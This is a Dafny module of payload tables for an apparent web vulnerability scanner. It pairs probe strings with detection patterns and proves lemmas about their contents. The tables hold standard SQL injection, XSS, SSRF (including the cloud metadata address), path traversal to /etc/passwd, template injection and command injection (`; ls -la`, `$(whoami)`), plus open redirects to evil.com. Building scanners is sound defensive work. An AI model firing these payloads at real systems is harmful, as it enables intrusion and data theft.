/**
 * The fixed payload tables: for each vulnerability kind, the probe values, their descriptions and
 * the body substrings whose presence reports a finding.
 */
module Payloads {
  import opened Text
  import opened Types

  datatype Payload = Payload(value: string, description: string, detectionPatterns: seq<string>)

  datatype PayloadSet = PayloadSet(vulnType: VulnerabilityType, payloads: seq<Payload>)

  /** A payload whose pattern list is empty can never be reported by a body-matching detector. */
  predicate Silent(p: Payload) {
    |p.detectionPatterns| == 0
  }

  const SqliTable: seq<Payload> := [
      Payload("' OR '1'='1", "Classic SQLi boolean-based",
        ["sql", "syntax", "mysql", "postgresql", "sqlite", "oracle"]),
      Payload("' OR 1=1--", "SQLi with comment", ["sql", "error"]),
      Payload("' UNION SELECT NULL--", "UNION-based SQLi", ["union", "select"]),
      Payload("1' AND SLEEP(5)--", "Time-based blind SQLi", []),
      Payload("admin'--", "Authentication bypass", [])]

  function ForSqli(): (s: PayloadSet)
    ensures s.vulnType == SQLInjection && |s.payloads| == 5
  {
    PayloadSet(SQLInjection, SqliTable)
  }

  const XssTable: seq<Payload> := [
      Payload("<script>alert('XSS')</script>", "Basic XSS", ["<script>", "alert"]),
      Payload("<img src=x onerror=alert('XSS')>", "Image-based XSS", ["<img", "onerror"]),
      Payload("'\"><script>alert(String.fromCharCode(88,83,83))</script>", "Encoded XSS", ["<script>"]),
      Payload("<svg/onload=alert('XSS')>", "SVG-based XSS", ["<svg", "onload"]),
      Payload("javascript:alert('XSS')", "Protocol-based XSS", ["javascript:"])]

  function ForXss(): (s: PayloadSet)
    ensures s.vulnType == XSS && |s.payloads| == 5
  {
    PayloadSet(XSS, XssTable)
  }

  /** The cloud instance metadata address, `169.254.169.254`. */
  const MetadataHost := "169.254.169.254"

  const SsrfTable: seq<Payload> := [
      Payload("http://127.0.0.1", "Localhost SSRF", []),
      Payload("http://localhost", "Localhost name SSRF", []),
      Payload("http://" + MetadataHost + "/latest/meta-data/", "AWS metadata SSRF", ["ami-id", "instance-id"]),
      Payload("file:///etc/passwd", "File protocol SSRF", ["root:", "/bin/"]),
      Payload("http://metadata.google.internal/", "GCP metadata SSRF", [])]

  function ForSsrf(): (s: PayloadSet)
    ensures s.vulnType == SSRF && |s.payloads| == 5
  {
    PayloadSet(SSRF, SsrfTable)
  }

  const LfiTable: seq<Payload> := [
      Payload("../../../etc/passwd", "Basic path traversal", ["root:", "/bin/bash"]),
      Payload("....//....//....//etc/passwd", "Double encoding traversal", ["root:"]),
      Payload("/etc/passwd", "Absolute path", ["root:"]),
      Payload("../../../windows/win.ini", "Windows file inclusion", ["[fonts]", "[extensions]"])]

  function ForLfi(): (s: PayloadSet)
    ensures s.vulnType == LFI && |s.payloads| == 4
  {
    PayloadSet(LFI, LfiTable)
  }

  const SstiTable: seq<Payload> := [
      Payload("{{7*7}}", "Jinja2/Twig math eval", ["49"]),
      Payload("${7*7}", "Freemarker math eval", ["49"]),
      Payload("{{config}}", "Flask config leak", ["SECRET_KEY", "DEBUG"]),
      Payload("<%= 7*7 %>", "ERB template eval", ["49"])]

  function ForSsti(): (s: PayloadSet)
    ensures s.vulnType == SSTI && |s.payloads| == 4
  {
    PayloadSet(SSTI, SstiTable)
  }

  const CommandInjectionTable: seq<Payload> := [
      Payload("; ls -la", "Command chaining", ["total", "drwx"]),
      Payload("| whoami", "Pipe command", []),
      Payload("`whoami`", "Backtick command substitution", []),
      Payload("$(whoami)", "Dollar command substitution", []),
      Payload("&& id", "AND command chaining", ["uid=", "gid="])]

  function ForCommandInjection(): (s: PayloadSet)
    ensures s.vulnType == CommandInjection && |s.payloads| == 5
  {
    PayloadSet(CommandInjection, CommandInjectionTable)
  }

  const OpenRedirectTable: seq<Payload> := [
      Payload("https://evil.com", "Direct external redirect", []),
      Payload("//evil.com", "Protocol-relative redirect", []),
      Payload("/\\evil.com", "Backslash bypass", [])]

  function ForOpenRedirect(): (s: PayloadSet)
    ensures s.vulnType == OpenRedirect && |s.payloads| == 3
    ensures forall p | p in s.payloads :: Silent(p)
  {
    PayloadSet(OpenRedirect, OpenRedirectTable)
  }

  /** `get_all_payloads`: the seven sets, in a fixed order. */
  function AllPayloads(): (all: seq<PayloadSet>)
    ensures |all| == 7
    ensures forall i | 0 <= i < |all| :: |all[i].payloads| > 0
  {
    [ForSqli(), ForXss(), ForSsrf(), ForLfi(), ForSsti(), ForCommandInjection(), ForOpenRedirect()]
  }

  /** The sets come tagged sqli, xss, ssrf, lfi, ssti, command injection, open redirect, all distinct. */
  lemma AllPayloadsOrder()
    ensures [AllPayloads()[0].vulnType, AllPayloads()[1].vulnType, AllPayloads()[2].vulnType,
             AllPayloads()[3].vulnType, AllPayloads()[4].vulnType, AllPayloads()[5].vulnType,
             AllPayloads()[6].vulnType]
         == [SQLInjection, XSS, SSRF, LFI, SSTI, CommandInjection, OpenRedirect]
    ensures forall i, j | 0 <= i < j < 7 :: AllPayloads()[i].vulnType != AllPayloads()[j].vulnType
  {
  }

  /** Every SQLi payload has a description. */
  lemma SqliDescriptionsNonEmpty()
    ensures forall p | p in ForSqli().payloads :: |p.description| > 0
  {
  }

  /** The SQLi table probes with both a boolean "OR" and a "UNION" payload. */
  lemma SqliTableContents()
    ensures exists p | p in ForSqli().payloads :: Contains(p.value, "OR")
    ensures exists p | p in ForSqli().payloads :: Contains(p.value, "UNION")
  {
    var sqli := ForSqli().payloads;
    assert OccursAt(sqli[0].value, "OR", 2);
    assert OccursAt(sqli[2].value, "UNION", 2);
  }

  lemma XssTableContents()
    ensures exists p | p in ForXss().payloads :: Contains(p.value, "<script>")
  {
    var xss := ForXss().payloads;
    assert OccursAt(xss[0].value, "<script>", 0);
  }

  /** The SSRF table targets the loopback address. */
  lemma SsrfTargetsLoopback()
    ensures exists p | p in ForSsrf().payloads :: Contains(p.value, "127.0.0.1")
  {
    var ssrf := ForSsrf().payloads;
    assert OccursAt(ssrf[0].value, "127.0.0.1", 7);
  }

  /** The SSRF table targets the cloud metadata address. */
  lemma SsrfTargetsMetadata()
    ensures exists p | p in ForSsrf().payloads :: Contains(p.value, MetadataHost)
  {
    var aws := ForSsrf().payloads[2];
    assert aws.value == "http://" + MetadataHost + "/latest/meta-data/";
    ContainsSelf(MetadataHost);
    ContainsInConcat("http://", MetadataHost, "/latest/meta-data/", MetadataHost);
  }

  /** The payloads that no body-matching detector can ever report, per table. */
  lemma SilentPayloads()
    ensures Silent(ForSqli().payloads[3]) && Silent(ForSqli().payloads[4])
    ensures forall i | 0 <= i < 3 :: !Silent(ForSqli().payloads[i])
    ensures forall p | p in ForXss().payloads :: !Silent(p)
    ensures forall p | p in ForLfi().payloads :: !Silent(p)
    ensures forall p | p in ForSsti().payloads :: !Silent(p)
  {
  }
}
